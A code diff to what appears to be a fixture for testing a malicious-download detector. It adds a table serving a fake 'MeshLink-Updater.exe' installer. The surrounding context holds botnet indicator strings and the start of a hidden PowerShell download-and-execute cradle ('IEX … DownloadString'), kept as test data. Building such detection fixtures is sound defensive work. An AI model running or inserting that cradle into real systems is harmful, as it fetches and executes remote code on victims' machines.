@@ -231,6 +231,13 @@ RULE_FILES: dict[str, tuple[str, int, str, str | None]] = {
     ),
 }
 
+# A plain installer on the rule-matched host: alone it would be suspicious; served by a
+# site with an open incident it is malicious (pipelines/executables.py). Not in the
+# catalogue: whether the site's incident is known first depends on the crawl's order.
+LONE_FILES: dict[str, tuple[str, int, str, str | None]] = {
+    "/support/tools/MeshLink-Updater.exe": ("pe", 31, "application/x-msdownload", None),
+}
+
 BOT_STRINGS = b"\0/bin/busybox\0/dev/watchdog\0GETLOCALIP\0"
 CRADLE = (
     b'\0powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('
@@ -307,7 +314,7 @@ async def vendor(env: Env) -> Result:
 @behaviour("incidents-vendor-files")
 async def vendor_files(env: Env) -> Result:
     """A download site whose files are known-bad or rule-matched builds."""
-    for table in (KNOWN_BAD_FILES, RULE_FILES, VENDOR_FILES):
+    for table in (KNOWN_BAD_FILES, RULE_FILES, LONE_FILES, VENDOR_FILES):
         served = _serve(table, env)
         if served is not None:
             return served
